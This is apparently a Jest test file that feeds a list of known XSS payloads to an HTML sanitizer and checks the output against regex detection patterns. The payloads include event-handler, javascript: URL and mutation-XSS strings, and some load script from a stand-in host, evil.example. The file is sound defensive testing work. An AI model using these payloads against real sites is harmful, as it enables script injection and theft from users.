/** @jest-environment node */
import { sanitizeArticleHtml } from './sanitize';

/**
 * Known XSS payloads (OWASP filter-evasion cheat sheet, mutation-XSS reports against HTML sanitizers).
 * Whatever survives must be inert: no element that runs or loads code, no handler, no script URL.
 */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<body onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
  '<p><a href="/ok" style="position:fixed;inset:0">cover</a></p>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<embed src=javascript:alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p>ok</p><!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<template><script>alert(1)</script></template>',
  '<div style="background:url(javascript:alert(1))">x</div>',
];

const dangerous = [/<\s*(script|img|svg|math|iframe|embed|object|form|input|button|base|meta|link|style|video|source|details|marquee|template|body)\b/i, /\son\w+\s*=/i, /javascript\s*:/i, /data\s*:/i, /\sstyle\s*=/i, /\ssrcdoc\s*=/i];

describe('sanitizeArticleHtml against known XSS payloads', () => {
  it.each(payloads)('%s comes out inert', (payload) => {
    const clean = sanitizeArticleHtml(payload);
    for (const pattern of dangerous) expect(clean).not.toMatch(pattern);
    // Sanitizing twice changes nothing: the output does not re-form markup when parsed again (mutation XSS).
    expect(sanitizeArticleHtml(clean)).toBe(clean);
  });
});
